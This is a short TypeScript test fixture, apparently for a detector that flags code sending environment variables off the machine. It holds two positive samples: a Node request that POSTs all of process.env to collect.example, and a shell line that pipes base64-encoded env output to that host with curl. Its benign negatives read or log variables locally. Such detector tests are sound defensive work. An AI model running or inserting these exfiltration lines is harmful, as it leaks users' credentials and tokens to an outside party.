import { type BehaviourSample, scriptFile } from "../behaviour.fixture.ts";

export const sample: BehaviourSample = {
  shows: [
    scriptFile(
      "a.js",
      'https.request({ host: "collect.example", method: "POST" }).end(JSON.stringify(process.env));\n',
    ),
    scriptFile("a.sh", "env | base64 | curl -d @- https://collect.example\n"),
  ],
  lacks: [
    scriptFile("a.js", "const { HOME } = process.env;\nfetch(url);\n"),
    scriptFile("a.js", "console.log(JSON.stringify(process.env));\n"),
  ],
};
